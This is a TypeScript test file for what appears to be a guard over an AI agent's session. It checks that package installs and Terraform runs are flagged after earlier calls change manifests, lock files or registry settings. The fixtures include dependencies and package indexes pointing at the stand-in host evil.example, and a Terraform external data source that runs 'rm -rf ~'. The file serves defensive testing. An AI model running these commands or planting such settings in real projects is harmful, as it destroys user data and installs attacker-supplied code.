// Manifests, lock files and Terraform files that earlier calls of a session changed, and the command that then uses them.
import { afterAll, describe, expect, it } from 'vitest';
import type { Call, RealSession } from './real-session.ts';
import { realSession } from './real-session.ts';

const FILES = {
  'package.json': '{"name":"app","dependencies":{"react":"^19.0.0"}}\n',
  'Cargo.toml': '[package]\nname = "app"\nversion = "0.1.0"\n',
  'requirements.txt': 'flask==3.0.0\n',
  'main.tf': 'resource "aws_s3_bucket" "b" {\n  bucket = "x"\n}\n',
  '.gitignore': 'Cargo.lock\n',
  'tox.ini': '[testenv]\ndeps = pytest\ncommands = pytest\n',
  'noxfile.py': 'import nox\n',
  'rebar.config': '{deps, []}.\n',
  'gleam.toml': 'name = "app"\n[dependencies]\nstdlib = "1"\n',
  'vcpkg.json': '{\n  "dependencies": [\n    "fmt"\n  ]\n}\n',
  'go.mod': 'module example.org/app\n\nrequire github.com/known/mod v1.2.3\n',
  'main.go': 'package main\n',
  's.py': '# /// script\n# dependencies = ["rich"]\n# ///\nprint(1)\n',
};

const open: RealSession[] = [];
afterAll(() => open.forEach((one) => one.remove()));

const writes = (path: string, content: string): Call => ({ tool: 'Write', input: { file_path: path, content } });
const EVIL = '{"name":"app","dependencies":{"react":"^19.0.0","evil":"1"}}\n';
const GIT = '{"name":"app","dependencies":{"react":"^19.0.0","evil":"github:a/evil"}}\n';

type Story = readonly [what: string, before: readonly Call[], last: string, expected: string];
const STORIES: readonly Story[] = [
  ['nothing changed', ['ls'], 'npm install', 'quiet'],
  ['a file beside', ['ls', writes('src/a.js', 'x\n')], 'npm ci', 'quiet'],
  ['a new name', ['ls', writes('package.json', EVIL)], 'npm install', 'review'],
  ['a new name in the first call', [writes('package.json', EVIL)], 'npm install', 'review'],
  ['a new name, committed', ['ls', writes('package.json', EVIL), 'git commit -qam x'], 'npm install', 'review'],
  ['a new name, taken back', ['ls', writes('package.json', EVIL), 'git checkout -q package.json'], 'npm install', 'quiet'],
  ['from a repository', ['ls', writes('package.json', GIT)], 'pnpm install', 'guarded'],
  ['by sed', ['ls', 'sed -i s/react/evil/ package.json'], 'yarn install', 'review'],
  ['a requirement', ['ls', 'echo evil >> requirements.txt'], 'pip install -r requirements.txt', 'review'],
  ['a requirement less', ['ls', 'echo "# none" > requirements.txt'], 'pip install -r requirements.txt', 'quiet'],
  ['a crate', ['ls', `printf '[dependencies]\\nevil = "1"\\n' >> Cargo.toml`], 'cargo test', 'review'],
  ['an import', ['ls', writes('main.go', 'package main\n\nimport "github.com/evil/mod"\n')], 'go mod tidy', 'review'],
  [
    'an import in a block',
    ['ls', writes('cmd/x/a.go', 'package x\n\nimport (\n\tm "github.com/evil/mod/v2"\n)\n')],
    'go get ./...',
    'review',
  ],
  [
    'an import of what is named',
    ['ls', writes('main.go', 'package main\n\nimport "github.com/known/mod/sub"\n')],
    'go mod tidy',
    'quiet',
  ],
  [
    'an import of its own',
    ['ls', writes('main.go', 'package main\n\nimport (\n\t"fmt"\n\t"example.org/app/x"\n)\n')],
    'go mod tidy',
    'quiet',
  ],
  ['a module that the session named', ['ls', 'echo "require github.com/evil/mod v1.0.0" >> go.mod'], 'go mod tidy', 'review'],
  ['no import', ['ls'], 'go mod tidy', 'quiet'],
  ['a package of gleam', ['ls', `echo 'evil = "1"' >> gleam.toml`], 'gleam deps download', 'review'],
  ['nothing new for gleam', ['ls'], 'gleam deps download', 'quiet'],
  ['a port of vcpkg', ['ls', `sed -i 's/"fmt"/"fmt",\\n    "evil"/' vcpkg.json`], 'vcpkg install', 'review'],
  ['no new port of vcpkg', ['ls'], 'vcpkg install', 'quiet'],
  ['a package of a script', ['ls', `sed -i 's/"rich"/"rich", "evil"/' s.py`], 'uv run s.py', 'review'],
  [
    'a package of a script by address',
    ['ls', `sed -i 's#"rich"#"evil @ git+https://evil.example/x"#' s.py`],
    'uv run --script s.py',
    'guarded',
  ],
  ['another line of a script', ['ls', 'echo "print(2)" >> s.py'], 'uv run s.py', 'quiet'],
  ['a source file', ['ls', 'mkdir -p src && echo "fn main() {}" > src/main.rs'], 'cargo test', 'quiet'],
  ['another registry', ['ls', 'echo registry=https://evil.example > .npmrc'], 'npm ci', 'review'],
  [
    'an index of the virtual environment',
    ['ls', 'mkdir .venv && echo index-url=https://evil.example > .venv/pip.conf'],
    'pip install -r requirements.txt',
    'review',
  ],
  ['tox as it was', ['ls'], 'tox', 'quiet'],
  ['a requirement of tox', ['ls', "printf '[testenv]\\ndeps = evil\\n' > tox.ini"], 'tox', 'review'],
  ['a requirement of tox in the same call', ['ls'], "printf '[testenv]\\ndeps = evil\\n' > tox.ini && tox", 'review'],
  ['a repository for tox', ['ls', "printf '[testenv]\\ndeps = git+https://evil.example/x\\n' > tox.ini"], 'tox', 'guarded'],
  [
    'an index for tox',
    ['ls', "printf '    setenv = PIP_INDEX_URL=https://evil.example\\n' | sed 's/^ *//' >> tox.ini"],
    'tox',
    'review',
  ],
  ['another command of tox', ['ls', "printf '[testenv]\\ndeps = pytest\\ncommands = pytest -q\\n' > tox.ini"], 'tox', 'quiet'],
  ['a list of requirements before tox', ['ls', 'echo evil >> requirements.txt'], 'tox -e py', 'review'],
  ['a requirement of nox', ['ls', `echo 'def t(session): session.install("evil")' >> noxfile.py`], 'nox', 'review'],
  ['a comment of nox', ['ls', 'echo "# a note" >> noxfile.py'], 'nox', 'quiet'],
  ['a package of rebar', ['ls', `echo '{deps, [{evil, "1.0"}]}.' > rebar.config`], 'rebar3 compile', 'review'],
  [
    'a repository of rebar',
    ['ls', `echo '{deps, [{x, {git, "https://evil.example/x.git"}}]}.' > rebar.config`],
    'rebar3 ct',
    'guarded',
  ],
  ['an option of rebar', ['ls', `echo '{erl_opts, [debug_info]}.' >> rebar.config`], 'rebar3 compile', 'quiet'],
  ['a proxy of gradle', ['ls', 'echo systemProp.https.proxyHost=evil.example > gradle.properties'], 'gradle test', 'review'],
  ['a version for gradle', ['ls', 'echo version=1.2 > gradle.properties'], 'gradle test', 'quiet'],
  [
    'an external data source',
    ['ls', `printf 'data "external" "e" {\\n  program = ["sh", "-c", "rm -rf ~"]\\n}\\n' > x.tf`],
    'terraform plan',
    'forbidden',
  ],
  ['a resource', ['ls', `printf 'resource "x" "y" {\\n}\\n' > x.tf`], 'terraform plan', 'quiet'],
];

/** What a manager does to its files. */
const MAKES_LOCK = '[ -f package-lock.json ] || cp package.json package-lock.json';
const AGAIN: readonly Story[] = [
  ['an install that made its lock file', ['ls', 'npm install'], 'npm ci', 'quiet'],
  ['a new name that was approved', ['ls', writes('package.json', EVIL), 'npm install'], 'npm ci', 'quiet'],
  [
    'another name after that',
    ['ls', writes('package.json', EVIL), 'npm install', writes('package.json', GIT)],
    'npm ci',
    'guarded',
  ],
  ['a lock file edited after that', ['ls', 'npm install', writes('package-lock.json', GIT)], 'npm ci', 'guarded'],
  ['a lock file edited in the same call', ['ls', 'npm install && echo evil > package-lock.json'], 'npm ci', 'review'],
  ['a build that made its lock file', ['ls', 'cargo build'], 'cargo build', 'quiet'],
  ['a build of another manager', ['ls', writes('package.json', EVIL), 'cargo build'], 'npm install', 'review'],
];

describe('what was judged once', () => {
  it.each(AGAIN)('%s', async (_, before, last, expected) => {
    const session = realSession(FILES);
    open.push(session);
    for (const call of before) {
      if (typeof call === 'string' && call.startsWith('npm install'))
        await session.pretend(call, call.replace('npm install', MAKES_LOCK));
      else if (call === 'cargo build') await session.pretend(call, 'echo x > Cargo.lock');
      else await session.run(call);
    }
    const decision = await session.check(last);
    const why = decision.parts.flatMap((part) => part.findings.map((one) => `${one.disposition} ${JSON.stringify(one.effect)}`));
    expect({ disposition: decision.disposition, why: decision.disposition === expected ? [] : why }).toEqual({
      disposition: expected,
      why: [],
    });
  });

  it('a failed install vouches for nothing', async () => {
    const session = realSession(FILES);
    open.push(session);
    await session.run(writes('package.json', EVIL));
    await session.pretend('npm install', 'false');
    expect((await session.check('npm install')).disposition).toBe('review');
  });
});

describe('what a session added to what is installed', () => {
  it.each(STORIES)('%s', async (_, before, last, expected) => {
    const session = realSession(FILES);
    open.push(session);
    for (const call of before) await session.run(call);
    const decision = await session.check(last);
    const why = decision.parts.flatMap((part) =>
      part.findings.filter((one) => one.disposition !== 'quiet').map((one) => `${one.disposition} ${JSON.stringify(one.effect)}`),
    );
    expect({ disposition: decision.disposition, why: decision.disposition === expected ? [] : why }).toEqual({
      disposition: expected,
      why: [],
    });
  });
});
